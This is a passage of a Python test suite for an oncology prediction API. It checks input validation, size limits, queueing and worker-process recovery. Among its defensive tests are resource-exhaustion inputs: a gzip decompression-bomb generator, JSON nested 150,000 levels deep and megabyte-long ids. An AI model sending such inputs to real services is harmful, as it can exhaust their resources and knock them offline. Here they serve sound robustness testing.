    return df.to_csv(index=False).encode()


def test_a_patient_without_data_is_refused_not_guessed(site, client):
    for patient in ({"id": "E1", "modalities": {}},
                    {"id": "E2", "modalities": {"expr": {f: None for f in site["schema"].modality("expr").features}}}):
        r = _post(client, site, [patient])
        assert r.status_code == 422 and _codes(r) == {"no_usable_feature"}, r.text
        assert patient["id"] in r.text


def test_coverage_below_the_site_minimum_is_refused_with_coverage_per_modality(site, client):
    r = _post(client, site, [{"id": "A1", "modalities": {"clinical": {"age": 0.3}}}])  # 1 of 61 inputs
    assert r.status_code == 422 and _codes(r) == {"low_coverage"}
    problem = r.json()["detail"][0]
    assert problem["coverage"]["clinical"] == pytest.approx(1 / 3, abs=1e-3) and problem["coverage"]["expr"] == 0
    assert "min-coverage" in problem["fix"]
    ok = _post(client, site, [_patient(site, 4, drop=("prot", "clinical", "mutation"))])
    p = ok.json()["predictions"][0]
    assert ok.status_code == 200 and p["coverage"]["expr"] == 1 and p["coverage"]["prot"] == 0
    assert 0.4 < p["coverage_total"] < 0.5 and [w["code"] for w in p["warnings"]][:1] == ["low_coverage"]


def test_tables_of_another_kind_are_refused(site, client):
    prot_as_expr = _csv(site, "prot", range(5))  # a protein table saved as the expression table
    r = _upload(client, site, {"expr.csv": prot_as_expr})
    assert r.status_code == 422 and "no_schema_features" in _codes(r) and "expr.csv" in r.text
    labels = pd.DataFrame({"patient": ["P000", "P001"], "cancer_type": ["A", "B"]}).to_csv(index=False).encode()
    r = _upload(client, site, {"clinical.csv": labels})
    assert r.status_code == 422 and "no_schema_features" in _codes(r)

    def mostly_foreign(df):  # one expression column among 40 others
        for k in range(40):
            df[f"x{k}"] = "1"
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), lambda df: (
        df.drop(columns=[c for c in df.columns if c not in ("patient", "g0")], inplace=True), mostly_foreign(df)))})
    assert r.status_code == 422 and "foreign_columns" in _codes(r)



def test_schema_features_written_differently_are_refused_with_the_rename_not_scored_without_them(site, client):
    # scored without them, every answer would silently lose features the table plainly meant to give
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), lambda df: df.rename(
        columns={"g2": "G2", "g5": "G5"}, inplace=True))})
    assert r.status_code == 422 and _codes(r) == {"misnamed_columns"}, r.text
    assert "'G2' -> 'g2'" in r.json()["detail"][0]["fix"] and "expr.csv" in r.text
    patient = _patient(site, 0)
    patient["modalities"]["clinical"]["Age"] = patient["modalities"]["clinical"].pop("age")
    r = _post(client, site, [patient])
    assert r.status_code == 422 and _codes(r) == {"misnamed_columns"} and "'Age' -> 'age'" in r.text, r.text
    # a near name with other digits may be another feature (hsa-mir-3651 is not hsa-mir-365-1): not refused
    from shared_models.validation.hints import same_name_written_differently

    assert not same_name_written_differently("hsa-mir-3651", "hsa-mir-365-1")
    assert same_name_written_differently("G2", "g2") and same_name_written_differently("HSA-MIR-9-3", "hsa-mir-9-3")

@pytest.mark.parametrize("sep, said", [(";", "semicolons"), ("\t", "tab")])
def test_an_excel_style_table_gets_validates_message_and_fix(site, client, sep, said):
    df = pd.read_csv(site["data"] / "expr.csv", dtype=str).head(3)
    r = _upload(client, site, {"expr.csv": df.to_csv(index=False, sep=sep).encode()})
    assert r.status_code == 422 and _codes(r) == {"no_id_column"}, r.text
    assert said in r.json()["detail"][0]["fix"]


def test_a_modality_in_another_unit_is_refused_not_flagged(site, client):
    # x1000 (or raw counts for log values): most of the modality's values far from every patient the site has
    def x1000(df):
        cols = [c for c in df.columns if c != "patient"]
        df[cols] = (df[cols].astype(float) * 1000).astype(str)
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), x1000), "prot.csv": _csv(site, "prot", range(3))})
    assert r.status_code == 422 and _codes(r) == {"units"}, r.text
    assert r.json()["detail"][0]["modality"] == "expr" and "units-sd" in r.json()["detail"][0]["fix"]
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3)), "prot.csv": _csv(site, "prot", range(3))})
    assert r.status_code == 200, r.text


def test_an_upper_case_or_spreadsheet_file_name_is_told_how_to_fix_it(site, client):
    r = _upload(client, site, {"EXPR.csv": _csv(site, "expr", range(2)), "prot.xlsx": b"PK\x03\x04",
                               "prot.csv": _csv(site, "prot", range(2))})
    assert r.status_code == 200, r.text
    fixes = {w["loc"]: w["fix"] for w in r.json()["warnings"] if w["code"] == "unrelated_file"}
    assert "rename it expr.csv" in fixes["EXPR.csv"] and "save the sheet as CSV" in fixes["prot.xlsx"]


def test_an_id_that_is_not_text_or_a_whole_number_is_refused_as_such(site, client):
    patient = _patient(site, 0)
    for pid, code in ((18446744073709551617, "bad_id"), (1.5, "bad_id"), ("  ", "empty_id"), (None, "empty_id")):
        r = _post(client, site, [{**patient, "id": pid}])
        assert r.status_code == 422 and _codes(r) == {code}, (pid, r.text)
    assert _post(client, site, [{**patient, "id": 17}]).status_code == 200



def test_a_json_body_that_is_a_scalar_is_refused_with_no_patients_not_an_error_to_retry(site, client):
    for body in ("null", "1", "true", '"x"', "[]"):
        r = client.post("/v1/predict", content=body.encode(), headers={**_auth(site["clinician"]),
                                                                       "Content-Type": "application/json"})
        assert r.status_code == 422 and _codes(r) == {"no_patients"}, (body, r.status_code, r.text)

def test_an_unknown_or_misspelt_key_is_refused_naming_it_and_the_closest_valid_key(site, client):
    """Keys the contract does not know were dropped silently: `topk` answered with the default top_k, a patient's
    `age`/`labels` beside its modalities were ignored, `modalites` said every modality was missing and `patient` that
    a list of patients was required, naming neither key. Each is refused (422) with the key and the closest valid one."""
    p = _patient(site, 0)

    def refused(body: dict) -> dict:
        r = client.post("/v1/predict", json=body, headers=_auth(site["clinician"]))
        assert r.status_code == 422 and _codes(r) == {"unknown_key"}, r.text
        return {e["loc"]: e for e in r.json()["detail"]}

    said = refused({"patients": [p], "topk": 0})
    assert "'top_k'" in said["body.topk"]["msg"] and said["body.topk"]["fix"] == "write 'top_k'"
    assert "'patients'" in refused({"patient": [p]})["body.patient"]["msg"]
    said = refused({"patients": [{**p, "age": 200, "labels": "OV"}], "top_k": 0})
    assert set(said) == {"patients[0].age", "patients[0].labels"}
    assert "the keys here are id, modalities" in said["patients[0].age"]["fix"]
    said = refused({"patients": [{"id": p["id"], "modalites": p["modalities"]}], "top_k": 0})
    assert "did you mean 'modalities'?" in said["patients[0].modalites"]["msg"]
    assert client.post("/v1/predict", json={"patients": [p], "top_k": 0},
                       headers=_auth(site["clinician"])).status_code == 200


def test_parameters_fastapi_refuses_are_answered_in_the_contracts_format(site, client):
    """`?top_k=abc` and `-F files=hello` got FastAPI's own answer ({"type": "int_parsing", ...}), naming no fix:
    they are 422s in the contract's format, {loc, code, msg, fix}, as every other refusal."""
    csv = b"patient,g0\nP000,1.0\n"
    for r, code in ((client.post("/v1/predict/file?top_k=abc", files={"files": ("expr.csv", csv)},
                                 headers=_auth(site["clinician"])), "bad_top_k"),
                    (client.post("/v1/predict/file?top_k=0", files={"files": (None, "hello")},  # -F files=hello
                                 headers=_auth(site["clinician"])), "not_a_file")):
        assert r.status_code == 422, r.text
        (problem,) = r.json()["detail"]
        assert set(problem) == {"loc", "code", "msg", "fix"} and problem["code"] == code, r.text


def test_a_key_given_twice_in_a_json_object_is_refused(site, client):
    patient = json.dumps(_patient(site, 0))
    for body in ('{"patients": [%s], "top_k": 0, "top_k": 3}' % patient,
                 '{"patients": [%s], "top_k" : 0, "top_k": 3}' % patient,  # a space before one colon
                 '{"patients": [{"id": "A", "id": "B", %s], "top_k": 0}' % patient[1:].split(",", 1)[1],
                 '{"patients": [%s], "top_k": 0}' % patient.replace('"modalities": {', '"modalities": {"expr": {}, ', 1)):
        r = client.post("/v1/predict", content=body.encode(), headers={**_auth(site["clinician"]),
                                                                       "Content-Type": "application/json"})
        assert r.status_code == 422 and _codes(r) == {"duplicate_key"}, (body[:80], r.text)
    spaced = json.dumps({"patients": [_patient(site, 0)], "top_k": 0}, separators=(", ", " : "))  # no '":' at all
    r = client.post("/v1/predict", content=spaced.encode(), headers={**_auth(site["clinician"]),
                                                                   "Content-Type": "application/json"})
    assert r.status_code == 200, r.text


def test_a_clinical_export_with_more_columns_is_scored_its_extra_columns_reported(site, client):
    def wider(df):
        for k in range(5):
            df[f"ehr_field_{k}"] = "x"
    r = _upload(client, site, {"clinical.csv": _csv(site, "clinical", range(3), wider),
                               "expr.csv": _csv(site, "expr", range(3))})
    assert r.status_code == 200, r.text
    assert "extra_columns" in {w["code"] for w in r.json()["warnings"]}


def test_tables_whose_ids_differ_for_some_patients_are_refused_naming_them(site, client):
    """Half of one table's ids with a sample suffix (or in another case, or Unicode form): the tables still share
    patients, and 10 patients came back as 15 answers, some from one modality alone, with no warning."""
    def half_suffixed(df):
        df.loc[df.index[::2], "patient"] = df.loc[df.index[::2], "patient"] + "-01A"

    def half_lower(df):
        df.loc[df.index[::2], "patient"] = df.loc[df.index[::2], "patient"].str.lower()
    for edit, shown in ((half_suffixed, "'P000-01A' (expr.csv) and 'P000' (prot.csv)"),
                        (half_lower, "'p000' (expr.csv) and 'P000' (prot.csv)")):
        r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(4), edit),
                                   "prot.csv": _csv(site, "prot", range(4))})
        assert r.status_code == 422 and _codes(r) == {"ids_written_differently"}, r.text
        assert shown in r.text and "the same way in every table" in r.text, r.text
    # other patients in each table (P004 only in one, P005 only in the other): answered
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", [0, 1, 4]), "prot.csv": _csv(site, "prot", [0, 1, 5])})
    assert r.status_code == 200 and len(r.json()["predictions"]) == 4, r.text


def test_columns_carrying_one_prefix_the_schema_lacks_are_refused_as_misnamed(site, client):
    """Half a modality's columns written with a prefix ('chr1q' for '1q'): they were dropped as extra columns, with a
    note whose fix said 'nothing', and the patient answered from the other half at p = 1.00."""
    features = site["schema"].modality("expr").features

    def prefixed(df):
        df.rename(columns={f: f"gene_{f}" for f in features[: len(features) // 2]}, inplace=True)
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), prefixed)})
    assert r.status_code == 422 and _codes(r) == {"misnamed_columns"}, r.text
    assert f"'gene_{features[0]}' -> '{features[0]}'" in r.text, r.text

    def one_stray(df):  # one column that happens to hold a feature's name is no pattern: reported, not refused
        df.rename(columns={features[0]: f"old_{features[0]}"}, inplace=True)
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), one_stray)})
    assert r.status_code == 200 and "extra_columns" in r.text, r.text


def test_tables_that_share_no_patient_are_refused_or_flagged(site, client):
    def suffixed(df):
        df["patient"] = df["patient"] + "-01A"
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), suffixed),
                               "prot.csv": _csv(site, "prot", range(3))})
    assert r.status_code == 422 and _codes(r) == {"no_common_patients"}, r.text
    assert "longer than the patient ids in prot.csv" in r.json()["detail"][0]["fix"]
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3)), "prot.csv": _csv(site, "prot", range(3, 6))})
    assert r.status_code == 200 and "no_common_patients" in {w["code"] for w in r.json()["warnings"]}
    from client.prediction_input import tables_apart

    def frame(ids):
        return pd.DataFrame({"x": range(len(ids))}, index=pd.Index(ids))
    # P10, P11 cut to two characters are both P1: other patients, not the same ones written longer
    assert tables_apart({"expr": (frame(["P10", "P11"]), "expr.csv"),
                         "prot": (frame(["P1", "P2"]), "prot.csv")})["severity"] == "warning"


@pytest.mark.parametrize("top_k", [0, 3])
def test_a_gz_upload_that_is_not_gzip_is_refused_with_the_fix(site, client, top_k):
    import gzip

    plain = _csv(site, "expr", range(3))
    broken = bytearray(gzip.compress(plain))
    broken[20:50] = bytes(30)
    for data in (plain, bytes(broken)):
        r = _upload(client, site, {"expr.csv.gz": data}, top_k=top_k)
        assert r.status_code == 422 and _codes(r) == {"unreadable"}, r.text
        assert "expr.csv.gz" in r.text and "compress it again" in r.json()["detail"][0]["fix"]


@pytest.mark.parametrize("top_k", [0, 3])
@pytest.mark.parametrize("second", ["expr.csv", "expr.csv.gz"])
def test_two_uploads_of_one_table_are_refused_not_the_last_one_scored(site, client, top_k, second):
    import gzip

    first, other = _csv(site, "expr", range(3)), _csv(site, "expr", range(3, 6))
    r = client.post(f"/v1/predict/file?top_k={top_k}", headers=_auth(site["clinician"]), files=[
        ("files", ("expr.csv", first, "text/csv")),
        ("files", (second, gzip.compress(other) if second.endswith(".gz") else other, "text/csv"))])
    assert r.status_code == 422 and _codes(r) == {"ambiguous_table"}, r.text
    assert r.json()["detail"][0]["loc"] == second and "one table per modality" in r.text


@pytest.mark.parametrize("cell, code", [("high", "non_numeric"), ("12,5", "non_numeric"), ("true", "non_numeric"),
                                        ("inf", "infinite"), ("1e300", "infinite")])
def test_a_bad_cell_is_refused_the_same_way_in_a_table_and_in_json(site, client, cell, code):
    def edit(df):
        df.loc[df.index[1], "g3"] = cell
    r_csv = _upload(client, site, {"expr.csv": _csv(site, "expr", range(3), edit)})
    patient = _patient(site, 1, drop=("prot", "clinical", "mutation"))
    patient["modalities"]["expr"]["g3"] = (True if cell == "true" else  # JSON true, a CSV's "true"
                                           cell if code == "non_numeric" or cell == "inf" else float(cell))
    r_json = _post(client, site, [patient])
    assert r_csv.status_code == r_json.status_code == 422
    (a,), (b,) = r_csv.json()["detail"], r_json.json()["detail"]
    assert a["code"] == b["code"] == code and a["feature"] == b["feature"] == "g3"
    assert a["patients"] == b["patients"] == ["P001"] and a["msg"] == b["msg"] and a["fix"] == b["fix"]


def test_a_prediction_below_the_sites_confidence_threshold_says_so(site):
    """serve.low-confidence: an answer whose most likely class is below it carries a low_confidence warning
    with the probability; above it, none."""
    from fastapi.testclient import TestClient

    body = {"patients": [_patient(site, i) for i in range(12)], "top_k": 0}
    for threshold in (0.999999, 0.0):
        c = TestClient(create_app(_serving(site, {"low-confidence": threshold})))
        rows = c.post("/v1/predict", json=body, headers=_auth(site["clinician"])).json()["predictions"]
        for row in rows:
            top = row["probabilities"][row["predicted"]]
            flagged = [w for w in row["warnings"] if w["code"] == "low_confidence"]
            assert len(flagged) == (top < threshold), row
            if flagged:
                assert f"probability {top:.0%}" in flagged[0]["msg"] and "no confident answer" in flagged[0]["msg"]
        assert threshold == 0.0 or any(w["code"] == "low_confidence" for r in rows for w in r["warnings"])


def test_duplicate_patient_ids_are_refused_in_json_and_tables(site, client):
    r = _post(client, site, [_patient(site, 5), _patient(site, 5)])
    assert r.status_code == 422 and "duplicate_ids" in _codes(r) and "P005" in r.text
    five = _patient(site, 5)
    expr_only = {"id": "P005", "modalities": {"expr": five["modalities"]["expr"]}}
    rest = {"id": "P005", "modalities": {m: v for m, v in five["modalities"].items() if m != "expr"}}
    numbered = {"id": 5, "modalities": rest["modalities"]}
    for pair in ([expr_only, rest], [expr_only, {"id": "P005", "modalities": {}}],
                 [{**expr_only, "id": "5"}, numbered]):  # other modalities, an empty entry, "5" and 5
        r = _post(client, site, pair)
        assert r.status_code == 422 and _codes(r) == {"duplicate_ids"}, r.text
        assert [p["code"] for p in r.json()["detail"]].count("duplicate_ids") == 1
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", [5, 6, 5])})
    assert r.status_code == 422 and "duplicate_ids" in _codes(r) and "P005" in r.text


def test_an_id_that_is_no_text_or_written_like_another_is_refused_and_spoils_no_other_request(site, client):
    """A lone surrogate ("\\ud800" in JSON) failed the audit of the whole batch, other users' requests with it (500);
    a zero-width space or a control character made another patient of the same id; 'José' in two Unicode forms,
    or 'p1' and 'P1', were scored as two patients."""
    import json as _json

    def send(*ids):  # raw JSON: the surrogate escape as a client would send it
        body = {"patients": [{**_patient(site, k), "id": i} for k, i in enumerate(ids)], "top_k": 0}
        return client.post("/v1/predict", content=_json.dumps(body).replace("SURROGATE", "\\ud800"),
                           headers={**_auth(site["clinician"]), "content-type": "application/json"})

    r = send("P-SURROGATE")
    assert r.status_code == 422 and _codes(r) == {"bad_id"} and "surrogate" in r.text, r.text
    for id_ in ("P\u200b001", "P\x07001"):
        r = send(id_)
        assert r.status_code == 422 and _codes(r) == {"bad_id"} and "U+" in r.text, r.text
    for pair in (("Jos\u00e9", "Jose\u0301"), ("p1", "P1")):
        r = send(*pair)
        assert r.status_code == 422 and _codes(r) == {"ambiguous_ids"}, r.text
    r = _upload(client, site, {"expr.csv": _csv(site, "expr", range(2)).replace(b"P000", b"p001")})
    assert r.status_code == 422 and _codes(r) == {"ambiguous_ids"}, r.text
    good = send("P001", "P002")
    assert good.status_code == 200 and [p["id"] for p in good.json()["predictions"]] == ["P001", "P002"]


def test_values_far_outside_the_training_distribution_are_flagged_or_refused(site, client, tmp_path):
    from fastapi.testclient import TestClient

    patient = _patient(site, 8)
    patient["modalities"]["clinical"]["age"] = -12.0  # the site's normaliser: mean 0, SD 1 (flagged beyond 10)
    patient["modalities"]["expr"]["g5"] = 3e38
    r = _post(client, site, [patient])
    assert r.status_code == 200
    p = r.json()["predictions"][0]
    flagged = {(o["modality"], o["feature"]) for o in p["out_of_range"]}
    assert flagged == {("clinical", "age"), ("expr", "g5")} and "out_of_range" in [w["code"] for w in p["warnings"]]
    mutation = _patient(site, 8)
    mutation["modalities"]["mutation"]["m0"] = 7  # binary
    assert "not_binary" in _codes(_post(client, site, [mutation]))
    strict = TestClient(create_app(_serving(site, {"refuse-out-of-range": True})))
    r = _post(strict, site, [patient])
    assert r.status_code == 422 and _codes(r) == {"out_of_range"} and "refuse-out-of-range" in r.text
    # a one-column modality far beyond any patient's values: another unit (an age in days), refused by name
    days = _patient(site, 8)
    days["modalities"]["clinical"]["age"] = 21_915.0
    r = _post(client, site, [days])
    assert r.status_code == 422 and _codes(r) == {"units"} and "clinical.age = 21915" in r.text, r.text


def test_input_limits_answer_413_or_422_naming_the_limit(site, client):
    for depth in (100_000, 150_000):  # 150,000 crashed the process inside orjson 3.8 (its parser recurses)
        deep = b'{"patients": ' + b"[" * depth + b"]" * depth + b"}"
        r = client.post("/v1/predict", content=deep, headers={**_auth(site["clinician"]),
                                                              "Content-Type": "application/json"})
        assert r.status_code == 422 and "at most 32" in r.text
    keys = {"patients": [{"id": "K1", "modalities": {"expr": {f"k{i}": 1.0 for i in range(200_000)}}}]}
    r = _post(client, site, keys["patients"])
    assert r.status_code == 422 and _codes(r) == {"foreign_columns"} and len(r.content) < 2000
    many = [{"id": f"Z{i}", "modalities": {}} for i in range(500)]  # 500 problems, 50 listed
    r = _post(client, site, many)
    assert r.status_code == 422 and len(r.json()["detail"]) == 51 and "serve.max-problems" in r.text
    huge = "P" * 1_000_000  # a megabyte id (twice, and without data) is named, not echoed, in the refusal
    r = _post(client, site, [{"id": huge, "modalities": {}}, {"id": huge, "modalities": {}}])
    assert r.status_code == 422 and "duplicate_ids" in _codes(r) and "1,000,000 characters" in r.text
    assert len(r.content) < 5000
    r = _post(client, site, [{"id": huge, "modalities": {}}])
    assert r.status_code == 422 and _codes(r) == {"no_usable_feature"} and len(r.content) < 5000
    too_many = _csv(site, "expr", list(range(N)) * 2)
    r = _upload(client, site, {"expr.csv": too_many})
    assert r.status_code == 413 and "serve.max-patients" in r.text


def _gzip_bomb(mb: int) -> bytes:
    """A gzip file of `mb` MB of text in about mb kB: one compressed megabyte repeated as gzip members."""
    import gzip

    header = b"patient," + b",".join(f"g{i}".encode() for i in range(30)) + b"\n"
    return gzip.compress(header) + gzip.compress(b"0" * (1 << 20), 9) * mb


@contextmanager
def _serving_process(site_json, *args, ready=lambda r: r.status_code == 200):
    """`oncofed serve` (with `args`) as a real process on loopback, once its /health answers (`ready`)."""
    import time

    import httpx

    from server.processes import free_port

    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "oncofed", "serve", "--site-config", str(site_json),
                             "--port", str(port), *args], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 120
        while time.time() < deadline:
            try:
                if ready(httpx.get(f"{url}/health", timeout=1)):
                    break
            except httpx.TransportError:
                assert proc.poll() is None, proc.stdout.read()
                time.sleep(0.2)
        yield {"url": url, "process": proc}
    finally:
        proc.terminate()
        proc.wait(20)


@pytest.fixture(scope="module")
def live(site):
    with _serving_process(site["root"] / "site.json") as served:
        yield served


def test_health_answers_within_100_ms_during_a_gzip_bomb_and_a_300_patient_explanation(site, live):
    import threading
    import time

    import httpx

    bomb = _gzip_bomb(400)  # 400 MB of text in ~0.4 MB
    results = {}
    with httpx.Client(base_url=live["url"]) as c:  # the same machine, idle: what its load alone costs
        idle = []
        for _ in range(30):
            t0 = time.perf_counter()
            c.get("/health")
            idle.append(time.perf_counter() - t0)
            time.sleep(0.01)

    # everything the client threads send is encoded before timing starts: they share this process's GIL
    explain_body = json.dumps({"patients": [_patient(site, i) for i in range(300)], "top_k": 5}).encode()
    upload = httpx.Request("POST", f"{live['url']}/v1/predict/file", headers=_auth(site["clinician"]),
                           files=[("files", ("expr.csv.gz", bomb, "application/gzip"))])
    upload.read()
    json_headers = {**_auth(site["clinician"]), "Content-Type": "application/json"}
    warm = httpx.post(f"{live['url']}/v1/predict", headers=json_headers, timeout=60,
                      content=json.dumps({"patients": [_patient(site, 0)], "top_k": 5}))
    assert warm.status_code == 200  # the process's first explanation initialises autograd

    def send_bomb():
        with httpx.Client(timeout=60) as c:
            results["bomb"] = c.send(upload)

    def explain():
        results["explain"] = httpx.post(f"{live['url']}/v1/predict", headers=json_headers, timeout=60,
                                        content=explain_body)

    workers = [threading.Thread(target=send_bomb), threading.Thread(target=explain)]
    for w in workers:
        w.start()
    times = []
    with httpx.Client(base_url=live["url"]) as c:
        while any(w.is_alive() for w in workers):
            t0 = time.perf_counter()
            assert c.get("/health").status_code == 200
            times.append(time.perf_counter() - t0)
            time.sleep(0.02)
    for w in workers:
        w.join()
    assert results["bomb"].status_code == 413 and "serve.max-decompressed-mb" in results["bomb"].text
    assert results["explain"].status_code == 200 and len(results["explain"].json()["predictions"]) == 300
    print(f"/health idle: max {max(idle) * 1e3:.0f} ms; during: median {np.median(times) * 1e3:.0f} ms, "
          f"p90 {np.quantile(times, 0.9) * 1e3:.0f} ms, max {max(times) * 1e3:.0f} ms, {len(times)} requests; "
          f"load average {os.getloadavg()[0]:.1f}")
    # the target is 100 ms on a quiet machine; on a shared one, what the machine's load alone costs is allowed
    assert len(times) >= 3 and np.quantile(times, 0.9) < 0.1 and max(times) < 0.1 + max(idle), times


def test_a_full_queue_answers_503_with_retry_after(site):
    import threading

    from fastapi.testclient import TestClient

    app = create_app(_serving(site, {"explain-queue-patients": 300}))
    c = TestClient(app)
    first = {}
    t = threading.Thread(target=lambda: first.setdefault("r", c.post(
        "/v1/predict", json={"patients": [_patient(site, i) for i in range(300)], "top_k": 5},
        headers=_auth(site["clinician"]))))
    t.start()
    while app.state.site.explanations.waiting == 0 and t.is_alive():
        pass
    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 5}, headers=_auth(site["clinician"]))
    fast = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    t.join()
    assert r.status_code == 503 and int(r.headers["Retry-After"]) >= 1 and "at most 300" in r.text
    assert fast.status_code == 200  # predictions have their own queue
    assert first["r"].status_code == 200


def test_a_full_prediction_queue_answers_503_with_retry_after(site, monkeypatch):
    """The prediction queue's bound: while the model holds 3 patients (its thread stopped inside the forward
    pass) and the queue takes at most 4, a 2-patient request is refused with Retry-After and a 1-patient one
    still fits; both waiting requests are answered once the model goes on."""
    import threading

    from fastapi.testclient import TestClient

    app = create_app(_serving(site, {"queue-patients": 4}))
    predictor = app.state.site.predictor
    scoring, go_on = threading.Event(), threading.Event()
    predict = predictor.predict

    def held(*a, **kw):
        scoring.set()
        go_on.wait(30)
        return predict(*a, **kw)

    monkeypatch.setattr(predictor, "predict", held)
    with TestClient(app) as c:
        def post(n, out):
            out.append(c.post("/v1/predict", json={"patients": [_patient(site, i) for i in range(n)], "top_k": 0},
                              headers=_auth(site["clinician"])))

        first, fits = [], []
        threading.Thread(target=post, args=(3, first)).start()
        assert scoring.wait(30)
        refused = []
        post(2, refused)
        t = threading.Thread(target=post, args=(1, fits))
        t.start()
        while app.state.site.predictions.waiting < 4 and t.is_alive():
            pass
        go_on.set()
        t.join(30)
        while not first:
            t.join(0.05)
    (r,) = refused
    assert r.status_code == 503 and int(r.headers["Retry-After"]) >= 1 and "at most 4" in r.text
    assert first[0].status_code == 200 and fits[0].status_code == 200
    assert len(first[0].json()["predictions"]) == 3


# --- issue 20: throughput ----------------------------------------------------------------------------
def test_the_input_check_process_answers_each_body_as_the_contract_does_in_the_service(site):
    """client/input_process.py: the child's answer to each body is checked_json's in this process (the checked
    patients, or the refusal with the same problems and status, or the top_k of an explanation request), under
    two normalisations in turn (the child is sent a model's statistics when they change) and with many bodies
    in flight at once (answers are matched to their requests), also while a new child starts."""
    import asyncio
    import dataclasses

    from client.input_process import InputProcess
    from client.predict import Predictor
    from client.prediction_input import PredictionInputError, checked_json, parse_request
    from privacy.site_config import ServeSettings

    lm = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json").current
    shifted = dataclasses.replace(lm)
    n = site["schema"].layout().n_inputs
    shifted.normalizer = Normalizer(lm.schema, np.full(n, 0.5), np.full(n, 0.3))  # out-of-range flags differ
    p0, p1 = _patient(site, 0), _patient(site, 1, drop=("expr",))
    bad = _patient(site, 2)
    bad["modalities"]["expr"]["g1"] = "high"
    bodies = [json.dumps(b).encode() for b in (
        {"patients": [p0], "top_k": 0}, {"patients": [p0, p1], "top_k": 0}, {"patients": [p0, p0], "top_k": 0},
        {"patients": [bad], "top_k": 0}, {"patients": [{"id": "E", "modalities": {}}], "top_k": 0},
        {"patients": [p0, p1], "top_k": 3}, {"patients": [], "top_k": 0})] + [b"{not json", b"[" * 40 + b"]" * 40]
    limits = ServeSettings(**{"out-of-range-sd": 6.0})  # a site's own setting travels to the process as well

    def expected(model, body):
        try:
            patients, top_k = parse_request(body, limits)
            return "ok", (len(patients), top_k, None if top_k else checked_json(model, patients, limits))
        except PredictionInputError as e:
            return "refused", (e.problems, e.status)

    async def answered(proc, model, body):
        try:
            return "ok", await proc.check(model, body)
        except PredictionInputError as e:
            return "refused", (e.problems, e.status)

    async def at_once(proc):  # many in flight: on a new child (lazily started by all of them), then a running one
        out = await asyncio.gather(*(answered(proc, m, b) for m in (lm, shifted) for b in bodies * 3))
        return list(zip([m for m in (lm, shifted) for _ in bodies * 3], bodies * 6, out))

    async def run():
        proc = InputProcess(limits)
        try:
            first = await at_once(proc)
            one_by_one = [(m, b, await answered(proc, m, b)) for m in (lm, shifted, lm) for b in bodies]
            pid = proc.pid
            proc._proc.kill()  # killed: the next requests all start one new child between them
            proc._proc.join(5)
            after = await at_once(proc)
            assert proc.pid not in (None, pid)
            return first + one_by_one + await at_once(proc) + after
        finally:
            proc.stop()

    kinds = set()
    for model, body, (kind, value) in asyncio.run(run()):
        want_kind, want = expected(model, body)
        assert kind == want_kind, body
        kinds.add((kind, value[1] if kind == "ok" else value[1]))
        if kind == "refused" or value[2] is None:
            assert value == want
            continue
        got, exp = value[2], want[2]
        assert value[:2] == want[:2] and got.ids == exp.ids and got.notes == exp.notes and got.warnings == exp.warnings
        assert np.array_equal(got.raw, exp.raw, equal_nan=True)
    assert {("ok", 0), ("ok", 3), ("refused", 422)} <= kinds
    out_of_range = [expected(m, bodies[0])[1][2].notes[0]["out_of_range"] for m in (lm, shifted)]
    assert out_of_range[0] != out_of_range[1]  # the two normalisations were told apart


def test_a_failed_start_or_connection_of_the_input_check_process_is_tried_again(site, monkeypatch):
    """Failures while a child starts cost at most the request that met them, never the ones after: a start
    that fails (out of file descriptors) answers InputProcessError (503) and the next request starts one; a
    connection that fails is made again; a request cancelled while the connection is made leaves it to the
    others."""
    import asyncio
    import multiprocessing.context
    import socket

    from client.input_process import InputProcess, InputProcessError
    from client.predict import Predictor
    from privacy.site_config import ServeSettings

    lm = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json").current
    body = json.dumps({"patients": [_patient(site, 0)], "top_k": 0}).encode()
    start, dup = multiprocessing.context.SpawnProcess.start, socket.socket.dup

    def once(real, error):
        failed = []

        def fail_once(self, *a, **kw):
            if not failed:
                failed.append(1)
                raise error
            return real(self, *a, **kw)
        return fail_once

    async def run():
        proc = InputProcess(ServeSettings())
        try:
            monkeypatch.setattr(multiprocessing.context.SpawnProcess, "start", once(start, OSError(24, "Too many open files")))
            with pytest.raises(InputProcessError, match="could not be started"):
                await proc.check(lm, body)
            assert (await proc.check(lm, body))[0] == 1
            proc._proc.kill()
            proc._proc.join(5)
            monkeypatch.setattr(socket.socket, "dup", once(dup, OSError(24, "Too many open files")))
            assert (await proc.check(lm, body))[0] == 1  # the connection is made again within the request
            proc._proc.kill()
            proc._proc.join(5)
            first = asyncio.ensure_future(proc.check(lm, body))
            others = [asyncio.ensure_future(proc.check(lm, body)) for _ in range(3)]
            await asyncio.sleep(0)
            first.cancel()
            assert [r[0] for r in await asyncio.gather(*others)] == [1, 1, 1]
            assert (await proc.check(lm, body))[0] == 1
        finally:
            proc.stop()

    asyncio.run(run())


def test_a_hung_or_killed_input_check_process_costs_one_answer_not_the_service(site, monkeypatch):
    """A child that does not answer in time is stopped and its request answered 503 with Retry-After; a killed
    one is replaced; either way the next request is answered by a new child. Beyond MAX_IN_FLIGHT requests
    waiting for the child, a request is answered 503 at once."""
    import signal

    from fastapi.testclient import TestClient

    import client.input_process as ip

    body = {"patients": [_patient(site, 0)], "top_k": 0}
    with TestClient(create_app(site["settings"])) as c:
        lane = c.app.state.site.input_check

        def post():
            return c.post("/v1/predict", json=body, headers=_auth(site["clinician"]))

        assert post().status_code == 200
        sent = lane._next
